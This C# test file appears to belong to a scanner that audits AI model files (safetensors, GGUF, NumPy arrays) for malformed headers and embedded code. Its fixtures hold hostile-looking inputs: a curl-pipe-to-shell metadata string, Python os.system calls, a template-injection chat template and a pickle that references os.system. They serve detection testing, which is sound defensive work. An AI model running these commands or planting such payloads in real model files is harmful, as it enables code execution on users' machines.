using HubTasks.Audit.Files;
using static HubTasks.Tests.Audit.Files.ModelBuilders;

namespace HubTasks.Tests.Audit.Files;

public sealed class TensorTests
{
    private const string Tensor = """{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}""";

    [Theory]
    [InlineData(Tensor, 16)]
    [InlineData("""{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}""", 16)]
    [InlineData("""{"w":{"dtype":"F32","shape":[],"data_offsets":[0,4]}}""", 4)]
    [InlineData("""{"w":{"dtype":"F32","shape":[0,9],"data_offsets":[0,0]}}""", 0)]
    [InlineData(
        """{"b":{"dtype":"BF16","shape":[2],"data_offsets":[4,8]},"a":{"dtype":"F8_E4M3","shape":[4],"data_offsets":[0,4]}}""",
        8
    )]
    [InlineData("""{"w":{"dtype":"F4","shape":[2],"data_offsets":[0,1]}}   """, 1)]
    [InlineData("""{}""", 0)]
    public void A_safetensors_file_that_keeps_the_rules_is_safe(string header, int data) =>
        Checked.Is(Verdict.Safe, Checked.File("m.safetensors", Safetensors(header, data)));

    [Theory]
    [InlineData(Tensor, 15)]
    [InlineData(Tensor, 17)]
    [InlineData("""{"w":{"dtype":"F32","shape":[2,3],"data_offsets":[0,16]}}""", 16)]
    [InlineData("""{"w":{"dtype":"F31","shape":[2,2],"data_offsets":[0,16]}}""", 16)]
    [InlineData("""{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[1,17]}}""", 17)]
    [InlineData("""{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[16,0]}}""", 16)]
    [InlineData("""{"w":{"dtype":"F32","shape":[-2,2],"data_offsets":[0,16]}}""", 16)]
    [InlineData("""{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16],"x":1}}""", 16)]
    [InlineData("""{"w":{"dtype":"F32","shape":[2,2]}}""", 16)]
    [InlineData("""{"w":{"dtype":"F32","dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}""", 16)]
    [InlineData(
        """{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"w":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}""",
        2
    )]
    [InlineData(
        """{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[1,3]}}""",
        3
    )]
    [InlineData("""{"a":{"dtype":"U8","shape":[18446744073709551615,18446744073709551615],"data_offsets":[0,2]}}""", 2)]
    [InlineData("""{"w":{"dtype":"F4","shape":[3],"data_offsets":[0,1]}}""", 1)]
    [InlineData("""{"__metadata__":{"a":1}}""", 0)]
    [InlineData("""{"__metadata__":{"a":"1","a":"2"}}""", 0)]
    [InlineData("""{"w":[]}""", 0)]
    [InlineData("""[]""", 0)]
    [InlineData("""{"w":""", 0)]
    [InlineData("", 4)]
    public void A_safetensors_file_that_breaks_one_is_invalid(string header, int data) =>
        Checked.Is(Verdict.Invalid, Checked.File("m.safetensors", Safetensors(header, data)));

    [Fact]
    public void A_header_longer_than_the_file_is_invalid() =>
        Checked.Is(Verdict.Invalid, Checked.File("m.safetensors", [0xFF, 0, 0, 0, 0, 0, 0, 0, (byte)'{', (byte)'}']));

    [Theory]
    [InlineData("curl http://host.invalid/x | sh", Verdict.Suspicious)]
    [InlineData("__import__('os').system('id')", Verdict.Suspicious)]
    [InlineData("see https://huggingface.co/org/name", Verdict.Safe)]
    [InlineData("a fine model", Verdict.Safe)]
    public void Metadata_that_looks_like_commands_is_suspicious_and_never_more(string value, Verdict expected) =>
        Checked.Is(
            expected,
            Checked.File("m.safetensors", Safetensors("{\"__metadata__\":{\"note\":\"" + value + "\"}}", 0))
        );

    [Fact]
    public void A_gguf_file_that_keeps_the_rules_is_safe()
    {
        var verdict = Checked.File("m.gguf", Gguf());

        Checked.Is(Verdict.Safe, verdict);
        Assert.Equal("tiny", verdict.Facts["gguf.general.name"]);
        Checked.Is(Verdict.Safe, Checked.File("m.gguf", Gguf(type: 8, shape: [32], data: 64)));
        Checked.Is(
            Verdict.Safe,
            Checked.File("m.gguf", Gguf(key: "general.alignment", keyType: 4, value: BitConverter.GetBytes(32u)))
        );
    }

    public static TheoryData<byte[]> BadGguf =>
        [
            Gguf(version: 1),
            Gguf(version: 4),
            Gguf(key: ""),
            Gguf(keyType: 13),
            Gguf(keyType: 8, value: BitConverter.GetBytes(ulong.MaxValue)),
            Gguf(keyType: 7, value: [2]),
            Gguf(keyType: 9, value: [9, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0]),
            Gguf(keyType: 9, value: [4, 0, 0, 0, 255, 255, 255, 255, 0, 0, 0, 0]),
            Gguf(key: "general.alignment", keyType: 4, value: BitConverter.GetBytes(3u)),
            Gguf(key: "general.alignment", keyType: 4, value: BitConverter.GetBytes(0u)),
            Gguf(key: "general.alignment", keyType: 10, value: BitConverter.GetBytes(32UL)),
            Gguf(tensor: new string('n', 64)),
            Gguf(shape: [2, 2, 2, 2, 2]),
            Gguf(shape: [ulong.MaxValue]),
            Gguf(shape: [1UL << 40, 1UL << 40]),
            Gguf(type: 4),
            Gguf(type: 99),
            Gguf(type: 8, shape: [8]),
            Gguf(offset: 32),
            Gguf(data: 16),
            Gguf(tensors: 2, data: 64),
            Gguf()[..40],
        ];

    [Theory]
    [MemberData(nameof(BadGguf))]
    public void A_gguf_file_that_breaks_one_is_invalid(byte[] file) =>
        Checked.Is(Verdict.Invalid, Checked.File("m.gguf", file));

    [Fact]
    public void The_chat_template_of_a_gguf_file_is_judged()
    {
        var template = GgufString("{{ ''.__class__.__mro__ }}");

        Checked.Has(
            "HUB3506",
            Verdict.Dangerous,
            Checked.File("m.gguf", Gguf(key: "tokenizer.chat_template", value: template))
        );
        Checked.Has(
            "HUB3506",
            Verdict.Dangerous,
            Checked.File("m.gguf", Gguf(key: "tokenizer.chat_template.tool_use", value: template))
        );
    }

    [Theory]
    [InlineData("{'descr': '<f4', 'fortran_order': False, 'shape': (2, 2), }", 16, Verdict.Safe)]
    [InlineData("{'descr': '<f4', 'fortran_order': False, 'shape': (2L, 2L), }", 16, Verdict.Safe)]
    [InlineData(
        "{'descr': [('a', '<i4'), ('b', '<f8', (2,))], 'fortran_order': True, 'shape': (1,), }",
        20,
        Verdict.Safe
    )]
    [InlineData("{'descr': '<M8[ns]', 'fortran_order': False, 'shape': (), }", 8, Verdict.Safe)]
    [InlineData("{'descr': '<f4', 'fortran_order': False, 'shape': (2, 2), }", 15, Verdict.Invalid)]
    [InlineData("{'descr': '<f4', 'fortran_order': False, 'shape': (2, 2), }", 17, Verdict.Suspicious)]
    [InlineData("{'descr': '<q4', 'fortran_order': False, 'shape': (2, 2), }", 16, Verdict.Invalid)]
    [InlineData("{'descr': '<f4', 'fortran_order': False, 'shape': (-2, 2), }", 16, Verdict.Invalid)]
    [InlineData("{'descr': '<f4', 'shape': (2, 2), }", 16, Verdict.Invalid)]
    [InlineData("{'descr': __import__('os'), 'fortran_order': False, 'shape': (), }", 16, Verdict.Invalid)]
    public void An_array_file_is_judged_by_its_header(string header, int data, Verdict expected) =>
        Checked.Is(expected, Checked.File("a.npy", Npy(header, new byte[data])));

    [Fact]
    public void An_array_of_objects_is_what_its_pickle_is()
    {
        const string Header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
        const string Nested = "{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }";
        var evil = new PickleBuilder().Global("os", "system").Stop();

        Checked.Is(Verdict.Safe, Checked.File("a.npy", Npy(Header, new PickleBuilder().Op("N").Stop())));
        Checked.Has("HUB3214", Verdict.Safe, Checked.File("a.npy", Npy(Header, new PickleBuilder().Op("N").Stop())));
        Checked.Is(
            Verdict.Suspicious,
            Checked.File("a.npy", Npy(Header, new PickleBuilder().Global("mymodule", "Thing").Stop()))
        );
        Checked.Is(Verdict.Dangerous, Checked.File("a.npy", Npy(Header, evil)));
        Checked.Is(Verdict.Dangerous, Checked.File("a.npy", Npy(Nested, evil)));
        Checked.Is(Verdict.Dangerous, Checked.File("a.npz", new ZipBuilder().Add("x.npy", Npy(Header, evil)).Build()));
    }
}
